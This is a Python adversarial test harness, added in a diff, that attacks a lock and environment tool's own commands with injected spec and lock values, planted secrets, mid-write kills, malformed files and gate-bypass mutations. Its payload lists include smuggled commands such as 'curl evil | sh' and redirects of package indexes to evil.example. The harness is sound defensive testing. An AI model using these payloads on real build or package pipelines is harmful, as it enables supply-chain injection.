@@ -1,0 +1,423 @@
+"""The adversarial corpus of issue 12, in one run: injection, secrets, kills, malformed inputs and
+gate mutations against the real verbs, on copies of this repository in a temporary directory.
+
+    python benchmarks/adversarial.py [--seed N] [--secrets N] [--kills N] [--json]
+
+Prints tried / refused / leaked / partial / traceback per class. The bad columns must be zero:
+  leaked     an injected line reached an output, a planted secret reached a snapshot, a write left
+             the intended directory, or the gate passed a change that alters what a platform installs;
+  partial    a SIGKILL left a half-written file or a checkout that ``overlay restore`` cannot repair;
+  traceback  a verb ended in exit 3 (a bug) instead of a one-line error.
+Exit status 1 when any bad column is non-zero. Touches only its own temporary directory.
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import io
+import json
+import os
+import random
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+from dataclasses import asdict, dataclass
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(ROOT))
+
+from megacpp_env.cli import main  # noqa: E402
+from megacpp_env.errors import SpecError  # noqa: E402
+
+LOCK = "locks/pylock.smoke-linux-amd64.toml"
+
+
+@dataclass
+class Tally:
+    tried: int = 0
+    refused: int = 0
+    leaked: int = 0
+    partial: int = 0
+    traceback: int = 0
+    ok: int = 0  # accepted and harmless (a BOM, a benign mutation)
+
+    @property
+    def bad(self) -> int:
+        return self.leaked + self.partial + self.traceback
+
+
+def run_cli(*argv: str) -> tuple[int, str, str]:
+    out, err = io.StringIO(), io.StringIO()
+    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
+        rc = main(list(argv))
+    return rc, out.getvalue(), err.getvalue()
+
+
+def repo_copy(tmp: Path, name: str) -> Path:
+    """stack.yaml, locks/ and overlays/ of this repository, committed in a fresh git repository."""
+    repo = tmp / name
+    repo.mkdir()
+    shutil.copy(ROOT / "stack.yaml", repo / "stack.yaml")
+    for sub in ("locks", "overlays"):
+        shutil.copytree(ROOT / sub, repo / sub)
+    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
+           "GIT_COMMITTER_EMAIL": "t@t"}  # fmt: skip
+    for cmd in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "base"]):
+        subprocess.run(["git", *cmd], cwd=repo, env=env, check=True, capture_output=True)
+    return repo
+
+
+def tree(root: Path) -> dict[str, float]:
+    return {str(p): p.lstat().st_mtime for p in root.rglob("*") if ".git" not in p.parts}
+
+
+# ---- injection -----------------------------------------------------------------------------------
+
+SPEC_PAYLOADS = [
+    "x\nRUN curl evil | sh", "x\r\nRUN evil", "x\u009b31m", "x\u202eevil", "x\u2066y", "x\u200by", "\ufeffx",
+    "x\u00a0y", "x\x00y", "x \\", "x' && evil", "https://u:p4ss@h.example/x", "Bearer abcdef123456",
+]  # fmt: skip
+LOCK_PAYLOADS = [
+    "3.20 \\\n    --hash=sha256:" + "e" * 64 + "\n--extra-index-url https://evil.example/simple\nevilpkg==6.6.6",
+    "3.20\r--extra-index-url https://evil.example/simple",
+    "3.20 --extra-index-url https://evil.example/simple",
+    "3.20 #evil", "3.20\u202eevil", "3.20\\", "3.20; evil", "3.20\x85evil",
+]  # fmt: skip
+
+
+def injection(tmp: Path, tally: Tally) -> None:
+    import copy
+
+    import yaml
+
+    from megacpp_env.spec import load_spec_text
+
+    data = yaml.safe_load((ROOT / "stack.yaml").read_text())
+    leaves = list(_leaves(data))
+    for key in leaves:
+        for payload in SPEC_PAYLOADS:
+            tally.tried += 1
+            doc = copy.deepcopy(data)
+            _assign(doc, key, payload)
+            try:
+                load_spec_text(yaml.safe_dump(doc), ROOT / "stack.yaml")
+            except SpecError:
+                tally.refused += 1
+            except Exception:  # noqa: BLE001 (counted, not hidden)
+                tally.traceback += 1
+            else:
+                tally.leaked += 1
+    _lock_injection(tmp, tally)
+
+
+def _lock_injection(tmp: Path, tally: Tally) -> None:
+    repo = repo_copy(tmp, "inject")
+    original = (repo / LOCK).read_text()
+    fields = {
+        "version": ('version = "3.20"', 'version = {}'),
+        "marker": ('name = "idna"', 'name = "idna"\nmarker = {}'),
+        "index": ('index = "https://pypi.org/simple"', "index = {}"),
+        "hash": ('sha256 = "a7db850025b95ded1eae8a46181a1a6c56c92c96f0e2b005d9ff8dc0210cab44"', "sha256 = {}"),
+        "command": ('command = "megacpp-env lock smoke', "command = {}"),
+    }
+    for name, (anchor, template) in fields.items():
+        for payload in LOCK_PAYLOADS:
+            tally.tried += 1
+            value = json.dumps(payload if name != "hash" else "a" * 64 + payload[4:])
+            text = original.replace(anchor, template.format(value) + ("" if name != "command" else " #"), 1)
+            (repo / LOCK).write_text(text)
+            for argv in (["lock", "--export-requirements", "smoke"], ["lock", "--check", "smoke"]):
+                rc, out, err = run_cli(*argv, "--spec", str(repo / "stack.yaml"))
+                export = (repo / "locks" / "smoke.linux-amd64.requirements.txt").read_text()
+                if rc == 3:
+                    tally.traceback += 1
+                    break
+                if "evil" in export.replace("# ", "#") and any(not ln.startswith("#") and "evil" in ln for ln in export.splitlines()):
+                    tally.leaked += 1
+                    break
+            else:
+                tally.refused += 1
+            subprocess.run(["git", "checkout", "-q", "--", "locks"], cwd=repo, check=True)
+
+
+def _leaves(node, key=()):
+    if isinstance(node, dict):
+        for k, v in node.items():
+            yield from _leaves(v, (*key, k))
+    elif isinstance(node, list):
+        for i, v in enumerate(node):
+            yield from _leaves(v, (*key, i))
+    elif isinstance(node, str):
+        yield key
+
+
+def _assign(doc, key, value):
+    for part in key[:-1]:
+        doc = doc[part]
+    doc[key[-1]] = value
+
+
+# ---- secrets -------------------------------------------------------------------------------------
+
+
+def secrets(tmp: Path, tally: Tally, n: int, seed: int) -> None:
+    from hypothesis import HealthCheck, given, seed as hseed, settings
+
+    from megacpp_env.redact import env_value_redaction
+    from tests.fixtures.secrets import plants
+
+    planted = []
+
+    @hseed(seed)
+    @settings(max_examples=n, database=None, deadline=None, suppress_health_check=list(HealthCheck))
+    @given(plants())
+    def unit(plant) -> None:
+        planted.append(plant)
+        tally.tried += 1
+        if plant.secret in env_value_redaction(plant.name, plant.value).text:
+            tally.leaked += 1
+        else:
+            tally.refused += 1
+
+    unit()
+    _secrets_in_a_real_snapshot(tmp, tally, planted[-40:])
+
+
+def _secrets_in_a_real_snapshot(tmp: Path, tally: Tally, batch) -> None:
+    """One real snapshot with a batch of the planted secrets in the environment and a git remote."""
+    from megacpp_env.snapshot.collect import SnapshotOptions, take_snapshot
+
+    repo = tmp / "secret-checkout"
+    repo.mkdir()
+    subprocess.run(["git", "init", "-q", str(repo)], check=True)
+    subprocess.run(["git", "-C", str(repo), "remote", "add", "o", "https://ci:Sx;p,a/s@s@git.example/r.git"], check=True)
+    environ = {k: v for k, v in os.environ.items() if k != "VIRTUAL_ENV"}
+    unique = {p.name: p for p in batch}
+    environ.update({p.name: p.value for p in unique.values()})
+    environ["MEGACPP_ENV_CACHE_DIR"] = str(tmp / "cache")
+    snap = take_snapshot(SnapshotOptions(environ=environ, paths=(repo,), cache_dir=tmp / "cache"))
+    text = snap.to_json() + json.dumps(snap.to_dict(), ensure_ascii=True)
+    for secret in [p.secret for p in unique.values()] + ["Sx;p,a/s@s"]:
+        tally.tried += 1
+        if secret in text:
+            tally.leaked += 1
+        else:
+            tally.refused += 1
+
+
+# ---- kills ---------------------------------------------------------------------------------------
+
+WRITER = """
+import sys
+from pathlib import Path
+from megacpp_env.fsutil import atomic_write_bytes
+path = Path(sys.argv[1])
+i = 0
+while True:
+    atomic_write_bytes(path, (b"A" if i % 2 else b"B") * (1 << 20))
+    i += 1
+"""
+
+
+def kills(tmp: Path, tally: Tally, n: int, seed: int) -> dict[str, int]:
+    """SIGKILL a process in the middle of atomic writes (n times) and of overlay applies."""
+    rng = random.Random(seed)
+    target = tmp / "killed" / "out.bin"
+    target.parent.mkdir()
+    target.write_bytes(b"A" * (1 << 20))
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    for _ in range(n):
+        proc = subprocess.Popen([sys.executable, "-c", WRITER, str(target)], env=env)
+        time.sleep(rng.uniform(0.05, 0.4))
+        proc.send_signal(signal.SIGKILL)
+        proc.wait()
+        tally.tried += 1
+        data = target.read_bytes()
+        if data not in (b"A" * (1 << 20), b"B" * (1 << 20)):
+            tally.partial += 1
+        else:
+            tally.refused += 1
+    stray = len(list(target.parent.glob(".*.tmp")))
+    _overlay_kills(tmp, tally)
+    return {"stray_temp_files_after_write_kills": stray}
+
+
+def _overlay_kills(tmp: Path, tally: Tally) -> None:
+    """Kill ``overlay apply`` after each file; ``restore`` must always bring the pristine tree back."""
+    sys.path.insert(0, str(ROOT))
+    from tests.test_overlay import KILLER  # the test suite's fault injector (wraps os.replace/unlink)
+
+    from megacpp_env.overlay import restore_overlay
+    from megacpp_env.worktree.status import overlay_status
+
+    setup = _overlay_setup(tmp)
+    if setup is None:
+        return
+    odir, checkout = setup
+    pristine = _tree_bytes(checkout)
+    for kill_after in range(1, 6):
+        tally.tried += 1
+        env = {**os.environ, "PYTHONPATH": str(ROOT)}
+        subprocess.run([sys.executable, "-c", KILLER, str(odir), str(checkout), str(kill_after)], env=env,
+                       capture_output=True, check=False)  # fmt: skip
+        try:
+            overlay_status(odir, checkout)
+            restore_overlay(odir, checkout)
+        except Exception:  # noqa: BLE001
+            tally.partial += 1
+            continue
+        if _tree_bytes(checkout) != pristine:
+            tally.partial += 1
+        else:
+            tally.refused += 1
+
+
+def _overlay_setup(tmp: Path):
+    """The shipped smoke-ext overlay over a real checkout of its pinned source (the bundled repo)."""
+    from megacpp_env.checkout import checkout_source
+    from megacpp_env.spec import load_spec
+
+    spec = load_spec(ROOT / "stack.yaml")
+    source = next((s for s in spec.sources.values() if s.overlay and (ROOT / "overlays" / s.overlay).is_dir()), None)
+    if source is None:
+        return None
+    try:
+        checkout_source(source, tmp / "ovl-checkout")
+    except Exception:  # noqa: BLE001 (the pinned source is not reachable here: skip, say so)
+        return None
+    return ROOT / "overlays" / source.overlay, tmp / "ovl-checkout"
+
+
+def _tree_bytes(root: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file() and ".git" not in p.parts}
+
+
+# ---- malformed inputs ----------------------------------------------------------------------------
+
+MUTATIONS = {
+    "not utf-8": lambda t: t.encode().replace(b"idna", b"\xff\xfeidna"),
+    "bom": lambda t: b"\xef\xbb\xbf" + t.encode(),
+    "packages = string": lambda t: ('packages = "x"\n' + t.split("[[packages]]")[0]).encode(),
+    "name = 5": lambda t: t.replace('name = "idna"', "name = 5", 1).encode(),
+    "wheels = [1]": lambda t: t.replace("wheels = [", "wheels = [1, ", 1).encode(),
+    "size = big": lambda t: t.replace("size = ", 'size = "big" #', 1).encode(),
+    "deep nesting": lambda t: (t + "\n[tool.x]\ny = " + "[" * 5000 + "]" * 5000 + "\n").encode(),
+    "truncated": lambda t: t[: len(t) // 2].encode(),
+    "hashes = list": lambda t: t.replace("hashes = {", "hashes = [{", 1).replace("}}", "}]}", 1).encode(),
+    "empty": lambda t: b"",
+    "binary": lambda t: bytes(range(256)) * 4,
+    "tool = 5": lambda t: t.replace("[tool.megacpp-env]", "[tool]\nmegacpp-env = 5\n[tool.other]", 1).encode(),
+    "duplicate key": lambda t: t.replace('name = "idna"', 'name = "idna"\nname = "idna"', 1).encode(),
+}
+
+
+def malformed(tmp: Path, tally: Tally) -> None:
+    repo = repo_copy(tmp, "malformed")
+    original = (repo / LOCK).read_text()
+    before = tree(tmp)
+    for mutate in MUTATIONS.values():
+        (repo / LOCK).write_bytes(mutate(original))
+        snap = tmp / "snap.json"
+        snap.write_bytes(mutate(original))
+        for argv in (
+            ["lock", "diff", str(repo / LOCK), str(repo / "locks" / "pylock.smoke-linux-arm64.toml")],
+            ["lock", "--check", "smoke"],
+            ["gate", "--base", "HEAD"],
+            ["diff", str(snap), str(snap)],
+            ["mirror", "smoke", "--platform", "linux/amd64", "--to", str(repo / "mirror")],
+        ):
+            tally.tried += 1
+            rc, _out, _err = run_cli(*argv, "--spec", str(repo / "stack.yaml"))
+            if rc == 3:
+                tally.traceback += 1
+            elif rc == 0:
+                tally.ok += 1
+            else:
+                tally.refused += 1
+        subprocess.run(["git", "checkout", "-q", "--", "locks"], cwd=repo, check=True)
+    allowed = (str(repo / "locks"), str(repo / "mirror"), str(tmp / "snap.json"))
+    outside = [p for p in tree(tmp) if p not in before and not p.startswith(allowed)]
+    tally.leaked += len(outside)
+
+
+# ---- gate mutations ------------------------------------------------------------------------------
+
+
+def gate_mutations(tmp: Path, tally: Tally) -> None:
+    """Changes that alter what linux/amd64 would install; each must fail the gate (exit 1)."""
+    repo = repo_copy(tmp, "gate")
+    text = (repo / LOCK).read_text()
+    a = "a7db850025b95ded1eae8a46181a1a6c56c92c96f0e2b005d9ff8dc0210cab44"
+    b = "ab7ae7122974553370f0bdb919e1a960b2cd1bc1ef0276416d896db81c14582c"
+    idna = text[text.index('[[packages]]\nname = "idna"') :].split("\n\n", 1)[0]
+    swapped = idna.replace(a, "1" * 64).replace(b, "2" * 64)
+    split = (
+        swapped.replace('name = "idna"', 'name = "idna"\nmarker = "sys_platform == \'linux\'"', 1)
+        + "\n\n"
+        + idna.replace('name = "idna"', 'name = "idna"\nmarker = "sys_platform != \'linux\'"', 1)
+    )
+    mutations = {
+        "hash swap": text.replace(idna, swapped),
+        "hash swap split by marker": text.replace(idna, split),
+        "one hash replaced": text.replace(a, "3" * 64),
+        "artifact host moved": text.replace("https://files.pythonhosted.org/packages", "https://evil.example/packages", 1),
+        "index moved": text.replace('index = "https://pypi.org/simple"', 'index = "https://evil.example/simple"', 1),
+        "downgrade": text.replace('name = "idna"\nversion = "3.20"', 'name = "idna"\nversion = "3.9"', 1),
+    }
+    for mutated in mutations.values():
+        tally.tried += 1
+        (repo / LOCK).write_text(mutated)
+        rc, _out, _err = run_cli("gate", "--base", "HEAD", "--spec", str(repo / "stack.yaml"))
+        if rc == 3:
+            tally.traceback += 1
+        elif rc == 0:
+            tally.leaked += 1  # a bypass
+        else:
+            tally.refused += 1
+        subprocess.run(["git", "checkout", "-q", "--", "locks"], cwd=repo, check=True)
+
+
+# ---- report --------------------------------------------------------------------------------------
+
+
+def main_(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--seed", type=int, default=12)
+    parser.add_argument("--secrets", type=int, default=500)
+    parser.add_argument("--kills", type=int, default=40)
+    parser.add_argument("--json", action="store_true")
+    args = parser.parse_args(argv)
+    results: dict[str, Tally] = {}
+    notes: dict[str, int] = {}
+    with tempfile.TemporaryDirectory(prefix="megacpp-adversarial-") as d:
+        tmp = Path(d)
+        started = time.perf_counter()
+        for name, fn in (
+            ("injection", lambda t: injection(tmp, t)),
+            ("secrets", lambda t: secrets(tmp, t, args.secrets, args.seed)),
+            ("kills", lambda t: notes.update(kills(tmp, t, args.kills, args.seed))),
+            ("malformed inputs", lambda t: malformed(tmp, t)),
+            ("gate mutations", lambda t: gate_mutations(tmp, t)),
+        ):
+            results[name] = Tally()
+            fn(results[name])
+        seconds = round(time.perf_counter() - started, 1)
+    if args.json:
+        print(json.dumps({"classes": {k: asdict(v) for k, v in results.items()}, "notes": notes, "seconds": seconds}))
+    else:
+        print(f"{'class':18} {'tried':>6} {'refused':>8} {'ok':>5} {'leaked':>7} {'partial':>8} {'traceback':>10}")
+        for name, t in results.items():
+            print(f"{name:18} {t.tried:6} {t.refused:8} {t.ok:5} {t.leaked:7} {t.partial:8} {t.traceback:10}")
+        for key, value in notes.items():
+            print(f"note: {key}: {value}")
+        print(f"took {seconds}s")
+    return 1 if any(t.bad for t in results.values()) else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main_())
